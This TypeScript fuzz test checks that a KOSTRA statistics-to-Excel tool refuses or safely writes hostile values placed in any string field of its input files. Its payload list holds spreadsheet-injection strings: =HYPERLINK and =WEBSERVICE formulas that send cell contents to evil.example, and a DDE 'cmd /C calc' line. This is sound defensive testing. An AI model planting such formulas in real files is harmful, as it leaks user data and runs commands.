/**
 * Hostile-input corpus, area "any string field": for every input format the product reads
 * — a tidy CSV, a JSON-stat file, a `kostra fetch` file, a template file and the template
 * settings a workbook carries — any JSON value in any string field (objects exceljs would
 * turn into formulas or links, arrays, numbers, long strings, formula-like text, characters
 * XML forbids, lone surrogates) ends in one of two ways only:
 * - refused: exit 2 (the CLI) or an "invalid" reading (settings, template files), with one
 *   line in each language, naming the file;
 * - accepted: a workbook whose formulas are exactly the ones the report planned — none
 *   added, none changed, no links — and whose parts are all well-formed XML (xmllint).
 *
 * The string fields are found by walking a valid document (every field of every shape: the
 * first item of each list, the first entry of each map of codes), not listed by hand, so a
 * field added to a format is covered without touching this test. Values come from
 * fast-check with a fixed seed (the same every run; a failure prints the value).
 *
 * All inputs are SYNTHETIC: the embedded synthetic sample and the synthetic fixture
 * tests/fixtures/ssb/12362-pmk-2017.json, with hostile values put in.
 */
import fc from "fast-check";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { main } from "../../../src/cli/main";
import type { FetchIo } from "../../../src/cli/fetch";
import { registerUserTemplate, resetUserCatalog, templateById } from "../../../src/kostra/catalog";
import { hasXmlForbidden } from "../../../src/kostra/safe-text";
import type { Dataset } from "../../../src/kostra/types";
import { buildReport, type ReportRequest } from "../../../src/report/report";
import { settingsFromXml, settingsToXml, type TemplateSettings } from "../../../src/report/template-settings";
import { writeXlsx } from "../../../src/report/xlsx-writer";
import { readDataFile } from "../../../src/sources/file";
import { writeObservationsFile } from "../../../src/sources/observations-file";
import { sampleDataset } from "../../../src/sources/sample";
import { en } from "../../../src/taskpane/i18n/en";
import { nb } from "../../../src/taskpane/i18n/nb";
import { describeTemplateFileProblem, readTemplateFile, templateFileText } from "../../../src/taskpane/state/templateFile";
import { writtenSettings } from "../../support/settings-fixture";
import { checkWorkbook } from "../../support/xlsx-check";
import { LONG_TEST_TIMEOUT_MS } from "../../support/timing";

jest.setTimeout(LONG_TEST_TIMEOUT_MS);

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Json = any;
type Path = (string | number)[];

const SEED = 20261205;
/** Values tried per string field. Refusals are quick; an accepted value costs a report and an xmllint run. */
const RUNS = 6;

// ---------------------------------------------------------------------------
// Hostile values

const FORBIDDEN = ["\u0000", "\u0001", "\u0008", "\u000B", "\u001F", "\uFFFE", "\uFFFF", "\uD800", "\uDFFF"];
const FORMULA_LIKE = [
  '=HYPERLINK("http://evil.example/?"&A2,"klikk")',
  '=WEBSERVICE("http://evil.example/?"&A2)',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "=1+1",
];

const forbiddenText = fc.array(fc.oneof(fc.constantFrom(...FORBIDDEN), fc.string({ maxLength: 3 })), { maxLength: 12 }).map((parts) => parts.join(""));
const formulaText = fc.tuple(fc.constantFrom(...FORMULA_LIKE), fc.string({ maxLength: 8 })).map(([f, tail]) => f + tail);
const longText = fc.tuple(fc.constantFrom("x", "=", "Ø", "\uFFFF", "]]>"), fc.integer({ min: 1_000, max: 40_000 })).map(([c, n]) => c.repeat(n));
const exceljsObject = fc.oneof(
  fc.record({ formula: formulaText }),
  fc.record({ sharedFormula: fc.constant("A1") }),
  fc.record({ text: fc.string(), hyperlink: fc.constant("http://evil.example/") }),
  fc.record({ richText: fc.array(fc.record({ text: fc.string() }), { maxLength: 2 }) }),
  fc.record({ error: fc.constant("#REF!") }),
);
const hostileValue: fc.Arbitrary<Json> = fc.oneof(
  exceljsObject,
  formulaText,
  forbiddenText,
  longText,
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.constantFrom("", " ", "__proto__", "constructor", "2017K1", "1e309", "0219", "..", "https://data.ssb.no@evil.example/"),
  fc.double(),
  fc.integer(),
  fc.constantFrom(null, true, false, 1e309),
  fc.array(fc.oneof(fc.string(), fc.integer(), formulaText), { maxLength: 3 }),
  fc.jsonValue({ maxDepth: 2 }),
);

// ---------------------------------------------------------------------------
// Every string field of a document, by shape

/** Paths to the string leaves: every field of every shape (first item of a list, first entry of a map of codes). */
function stringFields(doc: Json, path: Path = [], out: Path[] = []): Path[] {
  if (typeof doc === "string") out.push(path);
  else if (Array.isArray(doc)) {
    if (doc.length) stringFields(doc[0], [...path, 0], out);
  } else if (doc && typeof doc === "object") {
    const keys = Object.keys(doc);
    // A map keyed by codes (category labels, indexes, units, groups): one entry stands for all.
    const isCodeMap = keys.length > 6 && keys.every((k) => /^[\w.-]+$/.test(k) && /\d/.test(k));
    for (const k of isCodeMap ? keys.slice(0, 1) : keys) stringFields(doc[k], [...path, k], out);
  }
  return out;
}

function setAt(root: Json, path: Path, value: Json): Json {
  const copy = structuredClone(root);
  let at = copy;
  for (const k of path.slice(0, -1)) at = at[k];
  at[path[path.length - 1]] = value;
  return copy;
}

const show = (p: Path) => p.map((k) => (typeof k === "number" ? `[${k}]` : `.${k}`)).join("").replace(/^\./, "");

// ---------------------------------------------------------------------------
// The base documents: the sample's plan, miljø og kultur 2017

const REQUEST: ReportRequest = { sectors: ["plan-miljo-kultur"], municipality: "0219", year: 2017, years: [2017], lang: "nb" };
const CLI_ARGS = ["--sector", "plan-miljo-kultur", "--municipality", "0219", "--year", "2017"];

function pmk2017(): Dataset {
  const sample = sampleDataset();
  const ids = new Set(templateById("plan-miljo-kultur")!.indicators);
  const observations = sample.observations.filter((o) => o.year === 2017 && ids.has(o.indicator)).map((o) => ({ ...o, provenance: 0 }));
  return { observations, provenance: [{ source: "ssb", table: "12362", query: "https://data.ssb.no/api/pxwebapi/v2/tables/12362/data", fetchedAt: "2026-03-15T08:00:00Z", updated: "2026-03-15T07:00:00Z", notes: ["SYNTETISKE tall"] }] };
}

const FETCH_FILE: Json = (() => {
  const file = JSON.parse(writeObservationsFile(pmk2017(), { createdAt: new Date("2026-03-15T08:00:00Z"), request: { sectors: ["plan-miljo-kultur"] } }));
  file.observations[0].status = "..";
  return file;
})();

const JSON_STAT: Json = JSON.parse(readFileSync(join(__dirname, "..", "..", "fixtures", "ssb", "12362-pmk-2017.json"), "utf8"));

const CSV_ROWS: string[][] = pmk2017().observations.map((o) => [o.code, o.indicator, String(o.year), o.value === null ? "" : String(o.value).replace(".", ","), o.status ?? ""]);
const CSV_HEADER = ["region", "indikator", "år", "verdi", "status"];

/** A CSV cell as a spreadsheet would save the value: JSON values other than strings as their JSON text. */
function csvCell(value: Json): string {
  const text = typeof value === "string" ? value : JSON.stringify(value) ?? "";
  return `"${text.replace(/"/g, '""')}"`;
}

// ---------------------------------------------------------------------------
// The two allowed outcomes

const work = mkdtempSync(join(tmpdir(), "kb-any-field-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

let runNo = 0;

/** A one-line message in the product's form: no line breaks, no XML-forbidden characters, not a screenful. */
function expectOneLine(text: string): void {
  expect(text).not.toMatch(/[\r\n\u2028\u2029]/);
  expect(hasXmlForbidden(text)).toBe(false);
  expect(text.length).toBeLessThan(1_000);
}

/** A workbook holding exactly the planned formulas, in well-formed parts. */
async function expectPlannedWorkbook(bytes: Uint8Array, dataset: Dataset, request: ReportRequest): Promise<void> {
  const { plan } = buildReport(dataset, request);
  const check = await checkWorkbook(bytes, plan);
  expect(check.problems).toEqual([]);
}

/** `kostra report` on a data file: exit 2 with one line, or exit 0 and the planned workbook. */
async function reportOn(name: string, bytes: Uint8Array): Promise<"refused" | "written"> {
  const input = join(work, `${++runNo}-${name}`);
  const out = join(work, `${runNo}.xlsx`);
  writeFileSync(input, bytes);
  let err = "";
  const io: FetchIo = { out: () => undefined, err: (t) => (err += t), readFile: (p) => readFileSync(p) };
  const code = await main(["report", "--input", input, ...CLI_ARGS, "--out", out], io);
  try {
    if (code === 2) {
      const lines = err.split("\n").filter(Boolean);
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^kostra: /);
      expectOneLine(lines[0]);
      return "refused";
    }
    // Written: warnings (a row for an unknown region is skipped, and said so) come one a line.
    expect({ code, err }).toEqual({ code: 0, err: expect.stringMatching(/^(advarsel: [^\n]*\n)*skrev [^\n]*\n$/) });
    for (const line of err.split("\n")) expectOneLine(line);
    const dataset = readDataFile(bytes, input).dataset;
    await expectPlannedWorkbook(readFileSync(out), dataset, REQUEST);
    return "written";
  } finally {
    rmSync(input, { force: true });
    rmSync(out, { force: true });
  }
}

const encode = (text: string) => new TextEncoder().encode(text);

async function everyField(doc: Json, paths: Path[], tryOne: (changed: Json) => Promise<"refused" | "written">): Promise<void> {
  // The unchanged document is accepted, so every refusal below is the hostile value's doing.
  expect(await tryOne(doc)).toBe("written");
  const seen = { refused: 0, written: 0 };
  for (const path of paths) {
    await fc.assert(
      fc.asyncProperty(hostileValue, async (value) => {
        seen[await tryOne(setAt(doc, path, value))]++;
      }),
      { seed: SEED, numRuns: RUNS, endOnFailure: true, examples: [[{ formula: 'HYPERLINK("http://evil.example/?"&A2)' }], ["a\uFFFEb\u0000c\uD800"]] },
    ).catch((e: Error) => {
      const cause = (e as { cause?: unknown }).cause;
      throw new Error(`field ${show(path)}: ${e.message}\n${cause instanceof Error ? cause.message : String(cause ?? "")}`);
    });
  }
  // Both ways out were taken: hostile values were refused, and some were written (as text).
  expect(seen.refused).toBeGreaterThan(0);
  expect(seen.written).toBeGreaterThan(0);
}

describe("any JSON value in any string field", () => {
  it("of a kostra fetch file", async () => {
    const paths = stringFields(FETCH_FILE);
    expect(paths.map(show)).toEqual(expect.arrayContaining(["format", "createdAt", "provenance[0].query", "provenance[0].notes[0]", "observations[0].indicator", "observations[0].status"]));
    await everyField(FETCH_FILE, paths, (doc) => reportOn("fetch.json", encode(JSON.stringify(doc))));
  });

  it("of a JSON-stat file", async () => {
    const paths = stringFields(JSON_STAT);
    expect(paths.map(show)).toEqual(expect.arrayContaining(["version", "updated", "id[0]", "extension.px.tableid"]));
    await everyField(JSON_STAT, paths, (doc) => reportOn("12362.json", encode(JSON.stringify(doc))));
  });

  it("of a CSV file", async () => {
    const table = [CSV_HEADER, ...CSV_ROWS];
    // Every column of the header and of a data row.
    const paths: Path[] = [...CSV_HEADER.map((_, c) => [0, c]), ...CSV_HEADER.map((_, c) => [1, c])];
    const toCsv = (rows: Json[][]) => rows.map((r) => r.map(csvCell).join(";")).join("\r\n") + "\r\n";
    await everyField(table, paths, (rows) => reportOn("data.csv", encode(toCsv(rows))));
  });
});

// ---------------------------------------------------------------------------
// Template files and a workbook's settings: read, then the report written from them

const USER_TEMPLATE = {
  template: { id: "mal-kunst", label: { nb: "Kunst", en: "Art" }, indicators: ["kunstformidling", "bibliotek", "bruker-12362-x"], defaultComparisons: ["asker"], network: "asss" },
  indicators: [
    {
      id: "bruker-12362-x",
      label: { nb: "Bibliotek (egen)", en: "Libraries (own)" },
      unit: { nb: "kr", en: "NOK" },
      decimals: 0,
      measure: "key-figure",
      ssb: { table: "12362", regionDimension: "KOKkommuneregion0000", timeDimension: "Tid", select: { KOKfunksjon0000: ["370"], KOKart0000: ["AGD2"], ContentsCode: ["KOSbelop0000"] } },
      weight: "none",
      defaultAverage: "simple",
      confidence: "high",
      definition: { nb: "Egen indikator", en: "Own indicator" },
    },
  ],
};
const SETTINGS: TemplateSettings = writtenSettings({ sectors: ["mal-kunst"], source: { kind: "ssb", baseUrl: "https://proxy.kommune.no/ssb" }, ownedSheets: [], userTemplate: USER_TEMPLATE } as Partial<TemplateSettings>);

/** Settings that were read: the report they ask for, written and checked. */
async function reportFrom(settings: TemplateSettings): Promise<"written"> {
  resetUserCatalog();
  try {
    if (settings.userTemplate) expect(registerUserTemplate(settings.userTemplate.template, settings.userTemplate.indicators)).toEqual([]);
    const request: ReportRequest = { sectors: settings.sectors, municipality: "0219", year: 2017, years: [2017], lang: "nb" };
    const dataset = sampleDataset();
    const { plan } = buildReport(dataset, request);
    await expectPlannedWorkbook(await writeXlsx(plan), dataset, request);
    return "written";
  } finally {
    resetUserCatalog();
  }
}

describe("any JSON value in any string field, read by the pane", () => {
  it("of a workbook's template settings", async () => {
    const paths = stringFields(SETTINGS);
    expect(paths.map(show)).toEqual(expect.arrayContaining(["sectors[0]", "source.baseUrl", "userTemplate.template.label.nb", "userTemplate.indicators[0].ssb.table"]));
    await everyField(SETTINGS, paths, async (doc) => {
      const read = settingsFromXml(settingsToXml(doc));
      if (read.kind === "invalid") {
        for (const lang of ["nb", "en"] as const) expectOneLine(read.reason[lang]);
        return "refused";
      }
      expect(read.kind).toBe("ok");
      if (read.kind !== "ok") throw new Error("unreachable");
      return reportFrom(read.settings);
    });
  });

  it("of a template file", async () => {
    const settings: Partial<TemplateSettings> = { ...SETTINGS };
    delete settings.ownedSheets;
    const file = JSON.parse(templateFileText(settings as TemplateSettings, new Date("2026-03-15T08:00:00Z")));
    const paths = stringFields(file);
    expect(paths.map(show)).toEqual(expect.arrayContaining(["format", "writtenAt", "userTemplate.template.label.nb"]));
    await everyField(file, paths, async (doc) => {
      const read = readTemplateFile(JSON.stringify(doc));
      if (!read.ok) {
        for (const t of [nb, en]) expectOneLine(describeTemplateFileProblem(read.problem, "mal.json", t));
        return "refused";
      }
      return reportFrom({ ...read.settings, ownedSheets: [] });
    });
  });
});
